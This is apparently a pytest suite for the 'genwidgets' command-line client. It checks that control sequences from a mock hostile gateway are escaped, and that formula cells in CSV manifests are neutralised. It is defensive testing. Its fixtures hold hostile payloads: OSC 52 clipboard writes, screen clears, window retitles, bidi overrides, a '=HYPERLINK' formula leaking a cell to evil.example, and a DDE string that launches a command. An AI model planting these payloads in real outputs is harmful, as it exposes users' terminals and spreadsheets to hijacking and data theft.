"""The command line against a hostile gateway, run in a pseudo-terminal: whatever control
sequences the gateway puts in its errors, error types, status words, logs and request
ids, the bytes the commands write hold none a terminal acts on; reprs, error messages
and log lines neither (docs/decisions.md#inert-text, issue 39 point 1)."""

from __future__ import annotations

import csv
import itertools
import json
import logging
import os
import re
import selectors
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest
from loopback import JsonHandler, LoopbackServer

import genwidgets as gw
from genwidgets._formats import terminal_text
from genwidgets.cli import main

pytestmark = pytest.mark.timeout(240)

T2I = "genW2.5-t2i-preview"
KEY = "sk-test-inert"
CLIPBOARD = "\x1b]52;c;aGVsbG8=\x07"  # OSC 52: write the user's clipboard
CLEAR = "\x1b[2J\x1b[H"  # CSI: clear the screen
TITLE = "\x1b]0;pwned\x07"  # OSC 0: retitle the window
LINK = "\x1b]8;;http://evil.example/\x1b\\here\x1b]8;;\x1b\\"  # OSC 8: a hidden link
#: what a terminal acts on, past C0: C1 (CSI as one byte), bidi overrides and isolates
SNEAKY = "\x9b31m\u202eevil\u2066"
ERROR = f'=HYPERLINK("http://evil.example/?leak="&A1,"open"){CLIPBOARD}{CLEAR}\r\bdone'
ERROR_TYPE = f"@SUM(1+1)*cmd|' /C calc'!A0{TITLE}"
STATUS = f"IN_PROGRESS{TITLE}{SNEAKY}"
LOG = f"step 1{LINK}\x07"
#: a request id with any character a terminal acts on (ESC, C1, a bidi override) is
#: refused at the record boundary (docs/decisions.md#hostile-values): a task may exist
KEPT_ID = "req-{n}"
REFUSED_IDS = {"refused-id": "req-{n}" + CLIPBOARD, "sneaky-id": "req-{n}" + SNEAKY}
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


class HostileGateway(JsonHandler):
    """The queue protocol with control sequences in every text it sends back. A create
    whose prompt says ``refused-id`` gets an id with ESC, ``sneaky-id`` one with a C1
    and a bidi override, ``formula-id`` one shaped as a spreadsheet's formula;
    ``stuck-…`` ids never end; ``broken-…`` ids answer a 400 whose detail carries
    escapes."""

    ids = itertools.count()

    def do_POST(self) -> None:
        payload = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        asked, n = json.dumps(payload), next(self.ids)
        refused = [rid for word, rid in REFUSED_IDS.items() if word in asked]
        rid = refused[0] if refused else FORMULA_ID if "formula-id" in asked else KEPT_ID
        rid = rid.format(n=n) if rid != FORMULA_ID else rid
        self.send_json({"request_id": rid, "queue_position": 0})

    def do_GET(self) -> None:
        parts = self.path.split("?")[0].strip("/").split("/")
        rid, op = unquote(parts[-2]), parts[-1]
        if rid.startswith("broken"):
            self.send_json({"detail": f"no such task{CLEAR}{CLIPBOARD}", "error": ERROR}, 400)
        elif op == "status" or rid.startswith("stuck"):
            word = STATUS if rid.startswith("stuck") else "COMPLETED"
            self.send_json({"request_id": rid, "status": word, "logs": [{"message": LOG}]})
        else:
            self.send_json(
                {"request_id": rid, "status": "COMPLETED", "error": ERROR,
                 "error_type": ERROR_TYPE, "outputs": [], "logs": [LOG]},
            )  # fmt: skip


@pytest.fixture
def hostile() -> Iterator[LoopbackServer]:
    server = LoopbackServer(HostileGateway)
    yield server
    server.close()


#: every character a terminal acts on but newline, tab and carriage return (a pty
#: writes "\r\n" for "\n"; a progress bar redraws its line with "\r")
ACTED_ON = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)


def in_terminal(args: list[str], env: dict[str, str], timeout: float = 120) -> tuple[int, bytes]:
    """``genwidgets ARGS`` with a pseudo-terminal as its stdin, stdout and stderr: its exit
    status and every byte it wrote there."""
    master, slave = os.openpty()
    child = subprocess.Popen(
        [sys.executable, "-m", "genwidgets.cli", *args],
        stdin=slave, stdout=slave, stderr=slave, env=env, close_fds=True,
    )  # fmt: skip
    os.close(slave)
    written = bytearray()
    deadline = time.monotonic() + timeout
    # a selector, not select(): late in a long run the terminal's descriptor passes 1024
    watch = selectors.DefaultSelector()
    watch.register(master, selectors.EVENT_READ)
    try:
        while time.monotonic() < deadline:
            ready = watch.select(0.2)
            if not ready:
                if child.poll() is not None:
                    break
                continue
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: every writer of the terminal has closed it
                break
            if not chunk:
                break
            written += chunk
        code = child.wait(timeout=max(1.0, deadline - time.monotonic()))
    finally:
        watch.close()
        if child.poll() is None:
            child.kill()
            child.wait(30)
        os.close(master)
    return code, bytes(written)


def assert_inert(written: bytes) -> str:
    text = written.decode("utf-8")
    found = ACTED_ON.search(text)
    assert found is None, (f"U+{ord(found.group()):04X} written to the terminal", text)
    return text


@pytest.mark.slow
def test_every_command_writes_only_inert_bytes_to_a_terminal(
    hostile: LoopbackServer, tmp_path: Path
) -> None:
    env = {
        **os.environ,
        "GENWIDGETS_HOME": str(tmp_path / "home"),
        "GENWIDGETS_BASE_URL": hostile.base,
        "GENWIDGETS_API_KEY": KEY,
        "PYTHONPATH": os.pathsep.join([str(Path(gw.__file__).parents[1]), *sys.path]),
    }
    rows = tmp_path / "rows.csv"
    rows.write_text("text\na heron\nsneaky-id\nrefused-id\nformula-id\n")
    out = tmp_path / "o"
    code, written = in_terminal(
        ["batch", str(rows), "--endpoint", T2I, "--set", "prompt={text}", "--set", "n=1",
         "--out", str(out), "--yes"],
        env,
    )  # fmt: skip
    text = assert_inert(written)
    assert code == 1, text
    assert "row 0 (line 2) failed: " in text and "\\x1b]52;c;aGVsbG8=\\x07" in text
    assert "control character (U+009B" in text and "control character (U+001B" in text

    with open(out / "manifest.csv", encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert "'" + FORMULA_ID in cells and any(c.startswith("'@SUM(1+1)") for c in cells)
    jsonl = [json.loads(line) for line in (out / "manifest.jsonl").read_text().splitlines()]
    assert FORMULA_ID in {r["request_id"] for r in jsonl}  # the JSONL keeps the text

    code, written = in_terminal(["history", "--limit", "10"], env)
    text = assert_inert(written)
    assert code == 0 and "req-" in text and "(no request id)" in text, text

    # a ledger row written before the rule (raw words and error): the command's own
    # streams make it inert
    old_id = next(r["request_id"] for r in jsonl if r["request_id"] not in (None, FORMULA_ID))
    with sqlite3.connect(tmp_path / "home" / "ledger.sqlite3") as db:
        db.execute("UPDATE tasks SET status = ?, error = ?, error_type = ? WHERE request_id = ?",
                   (STATUS, ERROR, ERROR_TYPE, old_id))  # fmt: skip
    db.close()
    for args in (["history", "--limit", "10"], ["result", old_id]):
        code, written = in_terminal(args, env)
        text = assert_inert(written)
        assert "\\x1b]0;pwned\\x07" in text, (args, text)

    kept = KEPT_ID.format(n=0)
    for args, said in (
        # waited for: from the ledger when its batch's writes are in, else from the gateway
        (["result", kept, "--endpoint", T2I, "--wait", "60"], "\\x1b]52;c;aGVsbG8=\\x07"),
        (["status", "stuck-1", "--endpoint", T2I], "IN_PROGRESS\\x1b]0;pwned\\x07\\x9b31m"),
        (["result", "stuck-2", "--endpoint", T2I, "--wait", "0.5"], "\\x1b]0;pwned"),
        (["status", "typed" + SNEAKY, "--endpoint", T2I], "control character (U+009B"),
        (["status", "broken-3", "--endpoint", T2I], "no such task\\x1b[2J"),
        (["status", "broken-4" + CLEAR, "--endpoint", T2I], "control character (U+001B"),
    ):
        code, written = in_terminal(args, env)
        text = assert_inert(written)
        assert said in text, (args, text)  # the escapes shown, not run


def test_reprs_errors_and_log_lines_are_inert(
    hostile: LoopbackServer, caplog: pytest.LogCaptureFixture, tmp_path: Path
) -> None:
    caplog.set_level(logging.DEBUG, logger="genwidgets")
    with gw.Client(hostile.base, KEY, ledger=tmp_path / "ledger.sqlite3") as client:
        job = client.submit(T2I, {"prompt": "a heron", "n": 1})
        with pytest.raises(gw.TaskFailed) as failed:
            job.result(timeout=60).raise_for_error()
        result = failed.value.result
        stuck = client.job(T2I, "stuck-5")
        status = stuck.status()
        with pytest.raises(gw.GatewayError) as refused:
            client.job(T2I, "broken-6").status()
        with pytest.raises(gw.OutcomeUnknown) as unknown:
            client.submit(T2I, {"prompt": "sneaky-id", "n": 1}).result(timeout=60)
        shown = [
            str(failed.value),
            repr(result),
            repr(job),
            str(result.error),
            str(result.error_type),
            status.status,
            str(status.latest_log),
            repr(status),
            repr(stuck),
            str(refused.value),
            refused.value.message,
            str(refused.value.detail),
            str(unknown.value),
            *(r.getMessage() for r in caplog.records),
        ]
    for text in shown:
        found = ACTED_ON.search(text.replace("\n", "").replace("\t", ""))
        assert found is None, (f"U+{ord(found.group()):04X}", text)
    assert "\\x1b]52;c;aGVsbG8=\\x07" in str(failed.value)  # the text is shown, not dropped
    assert result.error.startswith('=HYPERLINK("http://evil.example/?leak="&A1,"open")\\x1b]52')
    assert result.raw["error"] == ERROR  # the answer as it came stays in raw


@pytest.mark.parametrize(
    ("text", "lines", "shown"),
    [
        ("a\x1b]52;c;eA==\x07b", False, "a\\x1b]52;c;eA==\\x07b"),
        ("one\ntwo\tthree\r", False, "one\\x0atwo\\x09three\\x0d"),
        ("one\ntwo\tthree\r", True, "one\ntwo\tthree\\x0d"),
        ("\x9b2J\x7f\u202eabc\u2066\u2029", False, "\\x9b2J\\x7f\\u202eabc\\u2066\\u2029"),
        ("café 한국 👨‍👩‍👧 \\x1b", False, "café 한국 👨‍👩‍👧 \\x1b"),  # ZWJ kept: an emoji
    ],
)
def test_terminal_text_escapes_what_a_terminal_acts_on(text: str, lines: bool, shown: str) -> None:
    assert terminal_text(text, lines=lines) == shown


#: a gateway's text that, printed as it came, would add a line that reads as the
#: command's own (a task done, a file saved)
FORGED = "FORGED: req-7: COMPLETED"
BROKEN_LINES = f"it broke\n{FORGED}\n  /home/you/outputs/req-7-0.png"


class LineForger(JsonHandler):
    """A gateway whose every text carries newlines: a task's error, and the detail of a
    refused poll (ids starting ``refused``)."""

    ids = itertools.count()

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_json({"request_id": f"req-{next(self.ids)}", "queue_position": 0})

    def do_GET(self) -> None:
        parts = self.path.split("?")[0].strip("/").split("/")
        rid, op = unquote(parts[-2]), parts[-1]
        if rid.startswith("refused"):
            self.send_json({"detail": BROKEN_LINES}, 400)
        elif op == "status":
            self.send_json({"request_id": rid, "status": "COMPLETED"})
        elif rid.startswith("warned"):  # no outputs, a URL elsewhere: a warning names it
            url = f"http://{self.headers['Host']}/{BROKEN_LINES}.png"
            self.send_json({"request_id": rid, "status": "COMPLETED", "image_link": url})
        else:
            body = {"request_id": rid, "status": "COMPLETED", "error": BROKEN_LINES}
            self.send_json(body | {"outputs": []})


def test_a_gateways_newlines_never_make_lines_of_a_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every command's line holding a gateway's text (a task's error, a refusal's detail,
    a status word kept by an older ledger) shows its newlines escaped: printed as they
    came, they wrote lines such as "req-7: COMPLETED" that read as the command's own."""
    gateway = LoopbackServer(LineForger)
    monkeypatch.setenv("GENWIDGETS_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GENWIDGETS_BASE_URL", gateway.base)
    monkeypatch.setenv("GENWIDGETS_API_KEY", KEY)
    rows = tmp_path / "rows.csv"
    rows.write_text("text\na heron\n")
    said: list[str] = []
    try:
        batch = ["batch", str(rows), "--endpoint", T2I, "--set", "prompt={text}",
                 "--set", "n=1", "--out", str(tmp_path / "o"), "--yes"]  # fmt: skip
        for args in (
            batch,
            ["result", "req-0", "--endpoint", T2I, "--wait", "30"],
            ["status", "refused-1", "--endpoint", T2I],
            ["result", "warned-2", "--endpoint", T2I, "--wait", "30"],
        ):
            main(args)
            captured = capsys.readouterr()
            said.append(captured.out + captured.err)
        with sqlite3.connect(tmp_path / "home" / "ledger.sqlite3") as db:
            db.execute("UPDATE tasks SET status = ?", (f"COMPLETED\n{FORGED}",))
        db.close()
        for args in (["history"], ["status", "req-0"]):
            main(args)
            captured = capsys.readouterr()
            said.append(captured.out + captured.err)
    finally:
        gateway.close()
    for text in said:
        lines = text.splitlines()
        assert not [line for line in lines if line.lstrip().startswith(("FORGED", "/home"))], text
        assert f"\\x0a{FORGED}" in text, text  # shown, escaped, in its line


def test_a_path_that_is_not_utf_8_is_written_escaped_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Review 23, fault 5: a folder whose name is not UTF-8 (byte 0xff, a lone surrogate
    to Python) ended every command printing it in a bare UnicodeEncodeError on a strict
    UTF-8 stdout (every UTF-8 locale but C). It is written as its escape, as controls."""
    folder = tmp_path / "nb\udcff"
    assert main(["notebooks", str(folder)]) == 0
    out = capsys.readouterr().out  # a strict UTF-8 stream, as a terminal's
    assert "nb\\udcff" in out and "\udcff" not in out
    assert any(folder.glob("*.ipynb"))
